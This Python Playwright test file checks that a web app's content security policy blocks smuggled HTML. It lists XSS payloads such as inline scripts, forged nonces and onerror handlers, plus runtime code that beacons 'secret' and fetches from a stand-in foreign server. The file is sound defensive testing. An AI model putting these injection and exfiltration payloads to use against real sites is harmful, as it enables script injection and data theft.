"""What the policy of a page forbids does not happen in the browser, whoever smuggled it in."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, HttpCredentials, Page, Route, expect
from pytest_httpserver import HTTPServer

from clueso.dev.stack import Stack
from tests.browser.operator import PASSWORD

SMUGGLED = """
<script>window.ran = 'inline'</script>
<script nonce="">window.ran = 'an empty nonce'</script>
<script nonce="nonce-of-this-answer">window.ran = 'the nonce of the build'</script>
<script src="data:text/javascript,window.ran='data'"></script>
<script src="FOREIGN/x.js"></script>
<script type="module">import 'FOREIGN/module.js'; window.ran = 'a module'</script>
<script src="/api/docs/static/docs.js" onload="window.ran = 'a script of ours'"></script>
<img src="x" onerror="window.ran = 'a handler'">
<img src="FOREIGN/x.png">
<iframe srcdoc="<script>parent.ran = 'a frame'</script>"></iframe>
<iframe src="FOREIGN/frame"></iframe>
<object data="FOREIGN/object"></object>
<link rel="stylesheet" href="FOREIGN/x.css">
<link rel="prefetch" href="FOREIGN/prefetched">
<video src="FOREIGN/x.mp4" autoplay></video>
<base href="FOREIGN/">
"""
LATER = """async () => {
  const script = document.createElement('script')
  script.textContent = "window.ran = 'a script made later'"
  document.body.append(script)
  const sheet = document.createElement('style')
  sheet.textContent = "body { background: url('FOREIGN/styled.png') }"
  document.body.append(sheet)
  new Image().src = 'FOREIGN/late.png'
  navigator.sendBeacon('FOREIGN/beacon', 'secret')
  await fetch('FOREIGN/fetched').catch(() => null)
}"""
PAGES = [("/", "Your name"), ("/api/docs", "/api/v1/projects"), ("/ops", "Reload")]
"""Each with a text that only stands there once it has come."""


@pytest.fixture
def page(browser: Browser, stack: Stack) -> Iterator[Page]:
    """A page of somebody whom nobody watches: it is meant to meet what is forbidden."""
    operator: HttpCredentials = {"username": "ops", "password": PASSWORD}
    context = browser.new_context(base_url=stack.url, http_credentials=operator)
    context.grant_permissions(["local-network-access"])  # where the foreign server of the tests is
    yield context.new_page()
    context.close()


def smuggle(page: Page, html: str, *, without: str = "") -> None:
    """Put this before all else that the pages show, and take a header away."""

    def inject(route: Route) -> None:
        response = route.fetch()
        head, title, rest = response.text().partition("<title>")
        headers = {name: value for name, value in response.headers.items() if name != without}
        route.fulfill(response=response, headers=headers, body=head + html + title + rest)

    page.route("/", inject)
    page.route("/api/docs", inject)
    page.route("/ops", inject)


def attacked(
    page: Page, foreign: HTTPServer, path: str, *, without: str = ""
) -> tuple[str | None, list[str]]:
    """What ran of what was smuggled into a page, and what a foreign server was asked for."""
    address = f"http://127.0.0.1:{foreign.port}"  # the browser resolves no name
    smuggle(page, SMUGGLED.replace("FOREIGN", address), without=without)
    page.goto(path)
    page.wait_for_load_state("networkidle")
    page.evaluate(LATER.replace("FOREIGN", address))
    page.wait_for_load_state("networkidle")
    return page.evaluate("window.ran"), [request.path for request, _ in foreign.log]


@pytest.mark.parametrize(("path", "text"), PAGES)
def test_a_smuggled_script_does_not_run_and_no_request_leaves(
    page: Page, httpserver: HTTPServer, path: str, text: str
) -> None:
    assert attacked(page, httpserver, path) == (None, [])
    expect(page.get_by_text(text).first).to_be_visible()


def test_without_the_policy_it_would(page: Page, httpserver: HTTPServer) -> None:
    ran, asked = attacked(page, httpserver, "/ops", without="content-security-policy")

    assert ran is not None
    assert {"/x.js", "/x.png", "/frame", "/x.css", "/late.png", "/fetched"} <= set(asked)


@pytest.mark.parametrize(("path", "text"), [*PAGES, ("/ops/queues/", "Clueso operations")])
def test_the_page_itself_meets_no_policy(page: Page, path: str, text: str) -> None:
    told: list[str] = []
    page.on("console", lambda message: told.append(message.text))
    page.on("pageerror", lambda error: told.append(str(error)))

    page.goto(path)

    expect(page.get_by_text(text).first).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert [text for text in told if "olicy" in text or "rror" in text] == []


def test_what_the_page_loads_later_is_loaded_by_its_own_scripts(page: Page) -> None:
    page.goto("/")
    page.get_by_label("Your name").fill("p-policy")
    page.get_by_role("button", name="Sign in").click()

    loaded = page.locator("script, link[rel=modulepreload]")
    first = loaded.count()
    page.get_by_test_id("account-menu").click()
    page.get_by_role("menuitem", name="Account and vocabulary").click()  # a page with a script of its own
    expect(page.get_by_role("heading", level=1, name="Account")).to_be_visible()
    assert loaded.count() > first > 1
    nonces = loaded.evaluate_all("all => all.map((each) => each.nonce)")
    assert len(set(nonces)) == 1
